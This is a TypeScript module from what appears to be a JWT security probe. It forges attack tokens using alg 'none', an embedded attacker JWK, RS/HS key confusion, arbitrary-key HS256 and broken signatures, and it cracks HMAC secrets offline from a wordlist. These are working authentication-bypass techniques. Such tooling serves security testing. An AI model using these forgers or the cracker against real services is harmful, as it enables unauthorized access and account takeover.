/** JWT decoding, forging and offline cracking for the JWT probe (node:crypto only: forged tokens must be malformed on purpose). */
import { createHmac, createPublicKey, generateKeyPairSync, sign, timingSafeEqual } from 'node:crypto';

export interface DecodedJwt {
  header: Record<string, unknown>;
  payload: Record<string, unknown>;
  signingInput: string;
  signature: string;
}

export function encodeSegment(value: unknown): string {
  return Buffer.from(JSON.stringify(value)).toString('base64url');
}

/** Decodes a JWT without verifying it; undefined when it is not a JWS compact token. */
export function decodeJwt(token: string): DecodedJwt | undefined {
  const parts = token.split('.');
  if (parts.length !== 3) return undefined;
  try {
    const header = JSON.parse(Buffer.from(parts[0]!, 'base64url').toString('utf8')) as Record<
      string,
      unknown
    >;
    const payload = JSON.parse(Buffer.from(parts[1]!, 'base64url').toString('utf8')) as Record<
      string,
      unknown
    >;
    return { header, payload, signingInput: `${parts[0]}.${parts[1]}`, signature: parts[2]! };
  } catch {
    return undefined;
  }
}

export function hmacSignature(
  algorithm: 'HS256' | 'HS384' | 'HS512',
  signingInput: string,
  key: string | Buffer,
): string {
  const hash = { HS256: 'sha256', HS384: 'sha384', HS512: 'sha512' }[algorithm];
  return createHmac(hash, key).update(signingInput).digest('base64url');
}

/** An HS256 token over any header and payload with any key (empty keys included). */
export function signHs256(
  header: Record<string, unknown>,
  payload: Record<string, unknown>,
  key: string | Buffer,
): string {
  const signingInput = `${encodeSegment({ ...header, alg: 'HS256' })}.${encodeSegment(payload)}`;
  return `${signingInput}.${hmacSignature('HS256', signingInput, key)}`;
}

/** An unsigned token with the given alg spelling ("none", "None", ...). */
export function signNone(payload: Record<string, unknown>, alg: string): string {
  return `${encodeSegment({ alg, typ: 'JWT' })}.${encodeSegment(payload)}.`;
}

/** The original token with one signature character changed. */
export function breakSignature(token: string): string {
  const decoded = decodeJwt(token);
  if (!decoded) return `${token}x`;
  const bytes = Buffer.from(decoded.signature, 'base64url');
  if (bytes.length > 0) bytes[0] = bytes[0]! ^ 0x01;
  return `${decoded.signingInput}.${bytes.toString('base64url')}`;
}

/** A token signed RS256 with a fresh key pair whose public half rides in the `jwk` header. */
export function signWithEmbeddedJwk(payload: Record<string, unknown>): string {
  const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const jwk = publicKey.export({ format: 'jwk' });
  const header = {
    alg: 'RS256',
    typ: 'JWT',
    jwk: { kty: jwk.kty, e: jwk.e, n: jwk.n },
    kid: 'preflight-injected',
  };
  const signingInput = `${encodeSegment(header)}.${encodeSegment(payload)}`;
  const signature = sign('sha256', Buffer.from(signingInput), privateKey).toString('base64url');
  return `${signingInput}.${signature}`;
}

/** HS256 signed with the server's public key bytes as HMAC secret (RS/HS confusion). */
export function signKeyConfusion(
  header: Record<string, unknown>,
  payload: Record<string, unknown>,
  publicKeyPem: string,
): string[] {
  const variants = new Set<string>([publicKeyPem, publicKeyPem.trim(), `${publicKeyPem.trim()}\n`]);
  try {
    const key = createPublicKey(publicKeyPem);
    variants.add(key.export({ type: 'spki', format: 'pem' }).toString());
    variants.add(key.export({ type: 'pkcs1', format: 'pem' }).toString());
  } catch {
    // An unusual key format: the raw text variants still run.
  }
  return [...variants].map((secret) => signHs256({ ...header, typ: 'JWT' }, payload, secret));
}

/** Tries every secret of the wordlist against the token's HMAC signature; returns the secret found. */
export function crackHmacSecret(token: string, secrets: Iterable<string>): string | undefined {
  const decoded = decodeJwt(token);
  if (!decoded) return undefined;
  const alg = String(decoded.header.alg ?? '');
  if (alg !== 'HS256' && alg !== 'HS384' && alg !== 'HS512') return undefined;
  const expected = Buffer.from(decoded.signature, 'base64url');
  for (const secret of secrets) {
    const actual = Buffer.from(hmacSignature(alg, decoded.signingInput, secret), 'base64url');
    if (actual.length === expected.length && timingSafeEqual(actual, expected)) return secret;
  }
  return undefined;
}

/** "c…e (8 chars)": enough to identify a recovered secret without printing it. */
export function maskSecret(secret: string): string {
  if (secret.length <= 2) return `${'*'.repeat(secret.length)} (${secret.length} chars)`;
  return `${secret[0]}${'*'.repeat(Math.min(secret.length - 2, 8))}${secret.at(-1)} (${secret.length} chars)`;
}

/** True when the PEM parses as a public key (the --jwt-public-key option refuses anything else). */
export function isPublicKeyPem(pem: string): boolean {
  try {
    return createPublicKey(pem).type === 'public' && !/PRIVATE KEY/.test(pem);
  } catch {
    return false;
  }
}
